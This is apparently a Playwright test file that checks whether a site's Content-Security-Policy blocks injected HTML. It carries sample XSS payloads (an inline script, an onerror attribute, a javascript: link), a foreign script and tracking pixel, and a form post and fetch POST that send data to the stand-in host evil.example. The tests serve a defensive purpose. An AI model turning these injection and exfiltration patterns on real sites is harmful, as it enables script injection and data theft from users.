import { expect, test, type Page } from "@playwright/test"

/** Another origin, which must not receive any request. */
const foreign = "https://evil.example"

/** Opens the landing page, recording what its Content-Security-Policy blocks; returns the requests to the other origin. */
const openTarget = async (page: Page) => {
  const requests: string[] = []
  await page.route(`${foreign}/**`, (route) => {
    requests.push(route.request().url())
    return route.fulfill({ contentType: "text/javascript", body: "window.injected = true" })
  })
  await page.goto("/")
  await page.evaluate(() => {
    const blocked: string[] = []
    Object.assign(window, { blocked })
    document.addEventListener("securitypolicyviolation", (event) => blocked.push(event.effectiveDirective))
  })
  return requests
}

/** Waits until this directive of the policy has blocked something. */
const expectBlocked = (page: Page, directive: string) =>
  expect.poll(() => page.evaluate(() => Reflect.get(window, "blocked") as string[])).toContain(directive)

const expectNothingRan = async (page: Page, requests: string[]) => {
  expect(await page.evaluate(() => Reflect.get(window, "injected") as unknown)).toBeUndefined()
  expect(requests).toEqual([])
}

/** HTML that an attacker might inject, and the directive that blocks it. */
const attacks = [
  { name: "an inline script", html: "<script>window.injected = true</script>", directive: "script-src-elem" },
  {
    name: "an event handler attribute",
    html: '<img src="/none.png" onerror="window.injected = true">',
    directive: "script-src-attr",
  },
  { name: "a foreign script", html: `<script src="${foreign}/x.js"></script>`, directive: "script-src-elem" },
  { name: "a foreign image", html: `<img src="${foreign}/pixel.gif">`, directive: "img-src" },
]

test("injected scripts and images are blocked", async ({ page }) => {
  const requests = await openTarget(page)
  for (const { name, html, directive } of attacks) {
    await test.step(name, async () => {
      // Unlike innerHTML, a contextual fragment runs its scripts.
      await page.evaluate((text) => {
        ;(Reflect.get(window, "blocked") as string[]).length = 0
        document.body.append(document.createRange().createContextualFragment(text))
      }, html)
      await expectBlocked(page, directive)
      await expectNothingRan(page, requests)
    })
  }
})

test("a link to javascript: does nothing", async ({ page }) => {
  const requests = await openTarget(page)
  await page.evaluate(() => {
    const link = document.createElement("a")
    link.href = "javascript:window.injected = true"
    document.body.append(link)
    link.click()
  })
  await expectBlocked(page, "script-src-elem")
  await expectNothingRan(page, requests)
})

test("a form with a foreign action is not sent", async ({ page }) => {
  const requests = await openTarget(page)
  await page.evaluate((action) => {
    const form = document.createElement("form")
    form.action = action
    form.method = "post"
    document.body.append(form)
    form.submit()
  }, `${foreign}/collect`)
  await expectBlocked(page, "form-action")
  await expectNothingRan(page, requests)
})

test("the page cannot send data to another origin", async ({ page }) => {
  const requests = await openTarget(page)
  await page.evaluate(
    (address) => fetch(address, { method: "POST", body: "x" }).catch(() => undefined),
    foreign,
  )
  await expectBlocked(page, "connect-src")
  await expectNothingRan(page, requests)
})

test("no page can embed the site in a frame", async ({ page }) => {
  await page.route("**/framing", (route) =>
    route.fulfill({ contentType: "text/html", body: '<iframe src="/"></iframe>' }),
  )
  await page.goto("/framing")
  await expect
    .poll(() => page.frames().map((frame) => frame.url()))
    .toContain("chrome-error://chromewebdata/")
})
